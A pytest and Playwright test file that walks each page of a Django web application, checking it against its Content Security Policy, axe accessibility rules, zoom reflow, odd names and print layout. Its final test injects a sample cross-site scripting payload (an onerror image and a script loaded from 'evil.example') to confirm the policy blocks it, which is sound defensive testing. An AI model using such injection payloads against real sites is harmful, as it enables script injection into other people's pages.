"""Every page in a real Chromium, loaded once: nothing against the policy it is served with, nothing that axe finds on a
desk or on a phone, one heading of the first level, and nothing wider than the window at 200 % and 400 %."""

from collections.abc import Iterator
from typing import Any

import pytest
from django.conf import settings
from playwright.sync_api import Browser, Error, Page

from tests.architecture.test_access import ACTORS
from tests.edge.conftest import Site
from tests.journeys.visitor import AXE, AXE_OPTIONS, DESK, PHONE, describe
from tests.support.access import Rule, fill, parameters, read_rules, routes
from trusts.models import Person
from trusts.tenancy import trust_context

pytestmark = pytest.mark.browser

ROUTES = routes()
PAGES = [r for r in read_rules() if "GET" in r.methods and ROUTES[r.route].scope != "api" and r.route != "api_schema"]
NOT_OURS = ("api_docs",)  # drawn by another project, as the accessibility statement says
DRAWN_LATER = {"api_docs": ".opblock"}  # what stands there once its scripts have done
ENLARGED = (640, 320)  # a desk's window at 200 % and at 400 %
IS_PAGE = "document.contentType === 'text/html' && location.href !== 'about:blank'"
WIDE = """[...document.querySelectorAll('body *')].filter(e => e.scrollWidth > e.clientWidth && e.clientWidth
    && !e.closest('.hg-scroll')).slice(-5).map(e => e.outerHTML.slice(0, 160))"""
WATCH = "addEventListener('securitypolicyviolation', e => violated(`${e.effectiveDirective} ${e.blockedURI}`))"


@pytest.fixture(scope="module")
def page(browser: Browser) -> Any:
    page = browser.new_context().new_page()
    page.set_default_timeout(15_000)
    page.complaints = []
    page.expose_binding("violated", lambda source, words: page.complaints.append(words))
    page.add_init_script(WATCH)
    page.on("console", lambda m: page.complaints.append(m.text) if "Policy" in m.text else None)
    page.on("pageerror", lambda error: page.complaints.append(str(error)))
    return page


def address_of(site: Site, rule: Rule) -> str:
    route, rows = ROUTES[rule.route], site.house.here.rows
    values = {"trust": site.house.here.trust.slug, "university": site.house.university.slug}
    for name, names in parameters(route.pattern):
        if name not in values:
            row = rows.get(f"{names}@{rule.variant}", rows.get(names))
            values[name] = str(getattr(row, "pk", row))
    return fill(route.pattern, values)


def actor_of(rule: Rule) -> str:
    if "public" in rule.who:
        return ""
    return next((name for name in ACTORS[ROUTES[rule.route].scope] if name in rule.who), "own")


def visit(page: Page, site: Site, address: str, actor: str) -> None:
    page.context.clear_cookies()
    if actor:
        name = settings.SESSION_COOKIE_NAME
        page.context.add_cookies([{"name": name, "value": site.cookies[actor], "url": site.address}])
    try:
        page.goto(site.address + address, wait_until="load")
    except Error as error:
        if "Download is starting" not in error.message and "ERR_ABORTED" not in error.message:
            raise  # otherwise a file, which is fetched and not shown


def resize(page: Any, width: int) -> None:
    page.set_viewport_size({"width": width, "height": 900})


def fits(page: Any) -> bool:
    """Whether nothing is wider than the window, once the page has come to rest in it."""
    for _ in range(10):
        if page.evaluate("document.documentElement.scrollWidth <= innerWidth"):
            return True
        page.wait_for_timeout(100)
    return False


def faults(page: Any) -> list[str]:
    """What keeps the page from being used with other eyes, other hands or a small window."""
    found = []
    page.evaluate(AXE.axe_script)
    for width in (PHONE, DESK):
        resize(page, width)
        violations = page.evaluate("options => axe.run(options).then(all => all.violations)", AXE_OPTIONS)
        found += [f"{width} pixels: {describe(violation)}" for violation in violations]
    for width in ENLARGED:
        resize(page, width)
        if not fits(page):
            found.append(f"wider than {width} pixels: {page.evaluate(WIDE)}")
    if (headings := page.locator("h1").count()) != 1:
        found.append(f"{headings} headings of the first level")
    return found


@pytest.mark.parametrize("rule", PAGES, ids=lambda rule: rule.name)
def test_a_page_keeps_to_the_policy_and_is_accessible(site: Site, page: Any, rule: Rule) -> None:
    page.goto("about:blank")  # what stays there was a file
    page.complaints.clear()

    visit(page, site, address_of(site, rule), actor_of(rule))
    if rule.route in DRAWN_LATER:
        page.wait_for_selector(DRAWN_LATER[rule.route])
    page.wait_for_timeout(100)

    assert page.complaints == []
    if rule.route not in NOT_OURS and page.evaluate(IS_PAGE):
        found = faults(page)
        assert not found, "\n".join(found)


LISTS = (
    "assessments:released_list",
    "cohorts:board",
    "cohorts:cohort_detail",
    "cohorts:review_list",
    "projects:project_list",
    "reports:cohort_dashboard",
    "reports:duty_list",
    "reports:home",
    "reports:report_list",
    "trusts:event_list",
    "trusts:invitation_list",
    "trusts:message_list",
    "trusts:person_list",
)
LONG = "Wolfeschlegelsteinhausenbergerdorffwelchevoralternwarengewissenhaftschaferswessenschafe"
RIGHT_TO_LEFT = "عائشة بنت محمد الأنصاري"


@pytest.fixture
def odd_names(site: Site) -> Iterator[None]:
    """Everybody bears a name without a place to break it, or one that runs from right to left."""
    trust = site.house.here.trust.pk
    with trust_context(trust):
        kept = list(Person.objects.values_list("pk", "full_name"))
        for number, (pk, _) in enumerate(kept):
            Person.objects.filter(pk=pk).update(full_name=(LONG, RIGHT_TO_LEFT)[number % 2])
    yield
    with trust_context(trust):
        for pk, name in kept:
            Person.objects.filter(pk=pk).update(full_name=name)


def test_lists_of_odd_names_fit(site: Site, page: Any, odd_names: None) -> None:
    wide = []
    for rule in (rule for rule in PAGES if rule.route in LISTS and rule.variant in ("", "running")):
        visit(page, site, address_of(site, rule), actor_of(rule))
        for width in (DESK, PHONE):
            resize(page, width)
            if not fits(page):
                wide.append(f"{rule.name} at {width} pixels: {page.evaluate(WIDE)}")
    assert not wide, "\n".join(wide)


PAPER = 718  # what fits between the margins of A4
PRINTED = (
    "assessments:assessment_standing@submitted",
    "cohorts:application_detail",
    "cohorts:board",
    "frameworks:version_detail@published",
    "projects:project_detail",
    "reports:cohort_dashboard@running",
    "reports:hr_export",
)
PRESSED = ".nhsuk-button, .nhsuk-header__navigation, .nhsuk-breadcrumb, .nhsuk-footer, summary"
SEEN = "(all) => all.filter(e => e.checkVisibility()).map(e => e.outerHTML.slice(0, 160))"
ADDRESSES = "(all) => all.filter(e => getComputedStyle(e, '::after').content.includes('/')).map(e => e.href)"


def test_on_paper_nothing_is_cut_and_nothing_is_pressed(site: Site, page: Any) -> None:
    found = []
    page.emulate_media(media="print")
    for rule in (rule for rule in PAGES if rule.name in PRINTED):
        visit(page, site, address_of(site, rule), actor_of(rule))
        resize(page, PAPER)
        if not fits(page):
            found.append(f"{rule.name} is cut")
        found += [f"{rule.name} shows {what}" for what in page.eval_on_selector_all(PRESSED, SEEN)]
        found += [f"{rule.name} spells {link}" for link in page.eval_on_selector_all("main a", ADDRESSES)]
    page.emulate_media(media="screen")
    assert not found, "\n".join(found)


def test_the_walk_would_notice(site: Site, page: Any) -> None:
    page.complaints.clear()
    visit(page, site, "/help/", "")
    page.evaluate("""document.querySelector('main').insertAdjacentHTML('beforeend',
        '<h1>Again</h1><img src="/static/x.svg"><svg width="600" height="9"></svg><a href="/help/"></a>')""")
    found = "\n".join(faults(page))
    assert all(word in found for word in ("image-alt", "link-name", "wider than 320", "2 headings"))

    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\">An inline style</p>')")
    for _ in range(100):
        if page.complaints:
            break
        page.wait_for_timeout(50)
    assert any("style-src" in words for words in page.complaints)
    page.complaints.clear()


def test_no_text_becomes_a_script(site: Site, page: Any) -> None:
    """What an injected text could do in this page: nothing."""
    visit(page, site, "/help/", "")

    attack = """() => {
        window.hit = [];
        document.body.insertAdjacentHTML('beforeend', '<img src="x:" onerror="hit.push(1)">');
        try { setTimeout('hit.push(2)') } catch {}
        try { document.createElement('script').src = 'https://evil.example/x.js' } catch { hit.push('refused') }
    }"""
    page.evaluate(attack)
    page.wait_for_timeout(200)

    assert page.evaluate("hit") == ["refused"]
    page.complaints.clear()
